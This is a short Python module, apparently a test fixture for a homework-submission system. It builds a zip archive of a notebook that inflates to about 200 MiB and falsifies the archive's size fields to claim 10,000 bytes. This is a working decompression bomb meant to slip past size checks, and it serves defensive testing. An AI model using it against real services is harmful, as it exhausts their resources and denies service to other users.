"""Hand in an archive of two hundred kilobytes that unpacks to two hundred megabytes, and lies about it."""

import io
import zipfile

from nbformat import NotebookNode

NAME = "mallory-hw1.zip"


def tamper(notebook: NotebookNode) -> bytes:
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("hw1.ipynb", "w") as member,
    ):
        for _ in range(200):
            member.write(bytes(2**20))
    size, lie = (200 * 2**20).to_bytes(4, "little"), (10_000).to_bytes(4, "little")
    return packed.getvalue().replace(size, lie)
